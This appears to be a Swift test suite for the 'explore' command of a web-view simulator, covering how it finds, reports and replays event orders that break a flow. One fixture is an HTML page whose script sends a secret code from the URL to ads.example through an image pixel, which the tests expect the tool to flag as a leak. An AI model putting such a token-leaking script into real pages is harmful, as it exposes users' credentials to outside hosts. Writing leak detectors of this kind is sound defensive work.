import Foundation
import Testing

/// `webviewsim explore`.
@Suite struct ExploreCommandTests {
  private static let doubleTap = "Examples/EveryOrder/double-tap.yaml"
  private static let oneWindow = "Examples/EveryOrder/one-window.yaml"

  /// A page whose second tap sends a token to another host: a defect of any app, without “finally”.
  private static let leak = """
    <!DOCTYPE html><title>Shop</title><button id=in>Sign in</button>
    <script>
      let taps = 0
      document.querySelector('#in').onclick = () => {
        taps += 1
        if (taps === 1) location.hash = 'code=secret12345'
        else new Image().src = 'https://ads.example/pixel?c=' + location.hash.slice(6)
      }
    </script>
    """

  @Test func `what breaks a flow is told as a story`() throws {
    let result = try Tool.run("explore", Self.doubleTap, "--runs", "500")
    #expect(result.code == 1 && result.errors.isEmpty, "\(result.errors)")
    let lines = result.output.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
    #expect(lines.first == "\(Self.doubleTap): it breaks in this order")
    #expect(lines.count { $0.contains("the user taps the same once more (user") } == 1, "\(result.output)")
    #expect(lines.contains("  The windows are main, popup2, not main."), "\(result.output)")
    #expect(lines.contains { $0.hasPrefix("run this order: webviewsim explore \(Self.doubleTap) --order user") })
    #expect(lines.contains { $0.contains(" orders with one deviation") }, "\(result.output)")
  }

  @Test func `what breaks nothing is told with what was covered`() throws {
    let result = try Tool.run("explore", Self.oneWindow, "--kinds", "user", "--runs", "60")
    #expect(result.code == 0 && result.errors.isEmpty, "\(result.output)\(result.errors)")
    #expect(result.output.hasPrefix("\(Self.oneWindow): nothing breaks in the orders that were tried\n"))
    #expect(result.output.contains("moments at which the world could go otherwise"))
    #expect(result.output.contains("\nAll ") && result.output.contains(" orders with two deviations"))
  }

  @Test func `the output is the same with one job and with two`() throws {
    for file in [Self.doubleTap, Self.oneWindow] {
      let one = try Tool.run("explore", file, "--runs", "60", "--jobs", "1")
      let two = try Tool.run("explore", file, "--runs", "60", "--jobs", "2")
      #expect(one.output == two.output && one.code == two.code)
      #expect(one.output.contains("with one deviation"))
    }
  }

  @Test func `an order runs alone`() throws {
    let order = try Self.order(in: try Tool.run("explore", Self.doubleTap, "--runs", "500").output)
    let replay = try Tool.run("explore", Self.doubleTap, "--order", order)
    #expect(replay.code == 1 && replay.errors.isEmpty)
    #expect(replay.output.contains("The windows are main, popup2, not main."), "\(replay.output)")
    #expect(replay.output.contains("createWebViewWith") && replay.output.hasSuffix("NOT as expected\n"))
    let mended = try Tool.run("explore", Self.oneWindow, "--order", order)
    #expect(mended.code == 0 && mended.output.hasSuffix("\nas expected\n"), "\(mended.output)")
  }

  @Test func `a run that never comes to its order fails`() throws {
    let result = try Tool.run("explore", Self.doubleTap, "--order", "user999=again")
    #expect(result.code == 1)
    #expect(result.output.contains("The run never came to user999=again of its order."))
  }

  @Test func `the order can be written as a scenario, once`() throws {
    let scratch = try Scratch()
    let file = scratch.folder.appending(path: "broken.yaml").path
    let found = try Tool.run("explore", Self.doubleTap, "--runs", "500", "--scenario-out", file)
    #expect(found.code == 1 && found.errors.isEmpty, "\(found.errors)")
    let text = try scratch.text("broken.yaml")
    #expect(text.hasSuffix("order: \(try Self.order(in: found.output))\n"), "\(text)")
    let run = try Tool.run("run", file)
    #expect(run.code == 1 && run.output.contains("The windows are main, popup2, not main."), "\(run.output)")

    let again = try Tool.run("explore", Self.doubleTap, "--runs", "500", "--scenario-out", file)
    #expect(again.code == 2 && again.errorLines == ["webviewsim: --scenario-out \(file): exists; nothing was changed"])
    #expect(try scratch.text("broken.yaml") == text)
  }

  @Test func `an order that is named can be written as a scenario`() throws {
    let scratch = try Scratch()
    let file = scratch.folder.appending(path: "named.yaml").path
    let named = try Tool.run("explore", Self.oneWindow, "--order", "user3=again", "--scenario-out", file)
    #expect(named.code == 0, "\(named.output)\(named.errors)")
    #expect(try scratch.text("named.yaml").hasSuffix("order: user3=again\n"))
    let run = try Tool.run("run", file)
    #expect(run.code == 0 && run.output.hasSuffix("as expected\n"), "\(run.output)")
  }

  @Test func `an order needs no more memory than the ordinary run, with one job as with two`() throws {
    let scratch = try Scratch()
    // One run has room in a process, two have not.
    let page = try scratch.add(
      "large.html",
      "<title>Large</title><button id=in>In</button><script>const a = new Uint8Array(170 << 20).fill(1)</script>"
    )
    let results = try ["1", "2"].map { jobs in
      try Tool.run("explore", page, "--click", "#in", "--runs", "6", "--memory-limit", "330", "--jobs", jobs)
    }
    #expect(results[0].output == results[1].output)
    #expect(results.allSatisfy { $0.code == 0 }, "\(results[0].output)")
  }

  @Test func `shards divide a search, and none says more than it has done`() throws {
    func tried(_ arguments: String...) throws -> Int {
      let result = try Tool.run(["explore", Self.oneWindow, "--kinds", "user", "--runs", "60"] + arguments)
      #expect(result.code == 0, "\(result.output)\(result.errors)")
      let line = try #require(result.output.split(separator: "\n").first { $0.contains("with two deviations") })
      #expect(line.hasPrefix("All") == arguments.isEmpty, "\(line)")
      let words = line.split(separator: " ")
      return try #require(Int(arguments.isEmpty ? words[1] : words[0]))
    }
    let whole = try tried()
    let parts = try ["1/3", "2/3", "3/3"].map { try tried("--shard", $0) }
    #expect(parts.reduce(0, +) == whole && parts.allSatisfy { $0 > 0 })
  }

  @Test func `a page is clicked, and what breaks any app is found and replayed`() throws {
    let scratch = try Scratch()
    let page = try scratch.add("shop.html", Self.leak)
    let found = try Tool.run("explore", page, "--click", "#in", "--kinds", "user", "--runs", "500")
    #expect(found.code == 1, "\(found.output)\(found.errors)")
    #expect(found.output.contains("A request to ads.example takes the code of another host with it."))
    let order = try Self.order(in: found.output)
    #expect(
      found.output.contains("run this order: webviewsim explore \(page) --click '#in' --kinds user --order \(order)"))
    let replay = try Tool.run("explore", page, "--click", "#in", "--kinds", "user", "--order", order)
    #expect(replay.code == 1, "\(replay.output)")
    #expect(replay.output.contains("A request to ads.example takes the code of another host with it."))
  }

  @Test func `the line that replays an order has the folders that the search needed`() throws {
    let scratch = try Scratch()
    let folder = scratch.folder.path
    _ = try scratch.add("shop.html", Self.leak)
    let scenarios = scratch.folder.appending(path: "scenarios")
    try FileManager.default.createDirectory(at: scenarios, withIntermediateDirectories: false)
    let file = try scratch.add(
      "scenarios/shop.yaml",
      "start: https://a.example/\nresponses: {https://a.example/: {file: ../shop.html}}\nsteps: [{click: '#in'}]\n")
    let found = try Tool.run("explore", file, "--allow-files", folder, "--kinds", "user", "--runs", "500")
    #expect(found.code == 1, "\(found.output)\(found.errors)")
    let order = try Self.order(in: found.output)
    #expect(
      found.output.contains("explore \(file) --kinds user --allow-files \(folder) --order \(order)\n"),
      "\(found.output)")
  }

  @Test func `an order that ends its process is named, with the limit that it met`() throws {
    let scratch = try Scratch()
    let page = try scratch.add(
      "stuck.html",
      Self.leak.replacing(
        "new Image().src = 'https://ads.example/pixel?c=' + location.hash.slice(6)", with: "for (;;);"))
    let found = try Tool.run(
      "explore", page, "--click", "#in", "--kinds", "user", "--runs", "500", "--jobs", "1", "--processor-limit", "3")
    #expect(found.code == 1, "\(found.output)\(found.errors)")
    let order = try Self.order(in: found.output)
    #expect(order.hasSuffix("=again"))
    #expect(found.output.contains("\n  \(order), at a moment that is not known.\n"), "\(found.output)")
    #expect(found.output.contains(" --processor-limit 3 --order \(order)\n"))
  }

  @Test func `an interrupted search tells what it covered`() throws {
    // It goes on for a minute unless it is interrupted.
    let tool = try RunningTool(["explore", Self.oneWindow, "--budget", "60s", "--jobs", "1"])
    _ = tool.workers()
    Thread.sleep(forTimeInterval: 2)
    tool.send(SIGINT)
    let result = tool.result()
    #expect(result.code == 130)
    #expect(result.errorLines == ["webviewsim: interrupted: the report covers only what was done before"])
    #expect(result.output.hasPrefix("\(Self.oneWindow): nothing breaks in the orders that were tried\n"))
    #expect(!result.output.contains("The time"))
  }

  @Test func `a scenario that finds nothing to click breaks in the ordinary order`() throws {
    let scratch = try Scratch()
    let file = try scratch.add(
      "missing.yaml",
      "start: https://a.example/\nresponses: {https://a.example/: <p>A}\nsteps: [{click: '#nothing'}]\n")
    let result = try Tool.run("explore", file, "--runs", "100")
    #expect(result.code == 1)
    #expect(result.output.hasPrefix("\(file): it breaks in the ordinary order\n"), "\(result.output)")
    #expect(result.output.contains("#nothing"))
    #expect(!result.output.contains("in no other way"))
  }

  @Test(
    "wrong input is one line",
    arguments: [
      (["--order", "soon"], "--order must be an order"),
      (["--order", "user1=again", "--runs", "9"], "--runs is for a search; --order runs one order"),
      (["--order", "user1=again", "--deviations", "2"], "--deviations is for a search; --order runs one order"),
      (["--order", "user1=again", "--seed", "1"], "--seed is for a search; --order runs one order"),
      (["--order", "user1=again", "--jobs", "1"], "--jobs is for a search; --order runs one order"),
      (["--order", "user1=again", "--budget", "1s"], "--budget is for a search; --order runs one order"),
      (["--order", "user1=again", "--shard", "1/2"], "--shard is for a search; --order runs one order"),
      (["--order", "user1=again", "--results", "x"], "--results is for a search; --order runs one order"),
      (["--shard", "3/2"], "--shard must be K/N with K from 1 to N"),
      (["--kinds", "weather"], "--kinds may name network"),
      (["--budget", "long"], "--budget must be a time"), (["--runs", "1"], "--runs must be between"),
      (["--deviations", "9"], "--deviations must be between"),
      (["--budget", "1s", "--runs", "9"], "cannot be used together"),
      (["--click", "#in"], "--click works with pages only"),
      (["--scenario-out", "x.txt"], "must end in .yaml or .json"),
    ])
  func wrongInput(arguments: [String], message: String) throws {
    let result = try Tool.run(["explore", Self.doubleTap] + arguments)
    #expect(result.code == 2 && result.output.isEmpty)
    #expect(result.errorLines.count == 1 && result.errors.contains(message), "\(result.errors)")
  }

  @Test func `a mistake in a scenario is named with its place, once`() throws {
    let scratch = try Scratch()
    let file = try scratch.add("wrong.yaml", "start: https://a.example/\nexplore: {user: [sleep]}\n")
    let result = try Tool.run("explore", file)
    #expect(result.code == 2 && result.output.isEmpty)
    #expect(result.errorLines.count == 1 && result.errors.hasPrefix("webviewsim: \(file):2:18: “user” may list"))
    #expect(result.errors.components(separatedBy: "wrong.yaml").count == 2, "\(result.errors)")
  }

  @Test func `a file that is not there is named once`() throws {
    let result = try Tool.run("explore", "nowhere.yaml")
    #expect(result.code == 2 && result.errorLines == ["webviewsim: nowhere.yaml: no such file"])
  }

  /// The order that an output names.
  private static func order(in output: String) throws -> String {
    let line = try #require(output.split(separator: "\n").first { $0.hasPrefix("run this order: ") })
    return String(try #require(line.components(separatedBy: "--order ").last))
  }
}
